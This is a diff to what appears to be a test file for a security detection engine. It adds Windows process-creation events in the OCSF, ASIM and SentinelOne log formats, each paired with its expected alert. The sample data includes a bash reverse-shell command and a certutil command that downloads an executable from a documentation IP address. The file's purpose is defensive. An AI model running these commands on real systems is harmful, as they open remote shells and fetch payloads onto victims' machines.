@@ -26,6 +26,9 @@ RULE = {
     "Parameters": [{"Name": "ForwardTo", "Value": "a@mail.example"}, {"Name": "Name", "Value": "."}]}
 SHELL = "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
 
+DOWNLOAD = "certutil -urlcache -f http://203.0.113.9/a C:\\ProgramData\\a.exe"
+DOWNLOADED = "System tool downloads a file from the Internet"
+
 STOPPED = "CloudTrail stopped, deleted or narrowed"
 REDIRECTED = "Shell redirected to a network address"
 GRANTED = "Administrator's rights given in Okta"
@@ -76,6 +79,15 @@ FORMS = {
         {"class_uid": 1007, "activity_id": 1, "time": 1777795201000, "device": {"hostname": "web01"},
          "process": {"file": {"path": "/usr/bin/bash"}, "cmd_line": SHELL,
                      "parent_process": {"file": {"path": "/usr/sbin/nginx"}}}}), REDIRECTED),
+    "OCSF's processes of Windows": ("windows.json", json.dumps(
+        {"class_uid": 1007, "activity_id": 1, "time": 1777795201000, "device": {"hostname": "ws01"},
+         "process": {"file": {"path": "C:\\Windows\\System32\\certutil.exe"}, "cmd_line": DOWNLOAD}}), DOWNLOADED),
+    "ASIM's processes of Windows": ("asim-windows.json", json.dumps(
+        {"TimeGenerated": TIME, "EventType": "ProcessCreated", "DvcHostname": "ws01",
+         "TargetProcessName": "C:\\Windows\\System32\\certutil.exe", "TargetProcessCommandLine": DOWNLOAD}), DOWNLOADED),
+    "SentinelOne's of Windows": ("s1-windows.json", json.dumps(
+        {"event.time": 1777795201000, "event.type": "Process Creation", "endpoint.name": "ws01",
+         "tgt.process.image.path": "\\Device\\HarddiskVolume3\\Windows\\System32\\certutil.exe", "tgt.process.cmdline": DOWNLOAD}), DOWNLOADED),
     "ASIM's processes": ("asim.json", json.dumps(
         {"TimeGenerated": TIME, "EventType": "ProcessCreated", "DvcHostname": "web01", "TargetProcessName": "/usr/bin/bash",
          "TargetProcessCommandLine": SHELL, "ActingProcessName": "/usr/sbin/nginx"}), REDIRECTED),
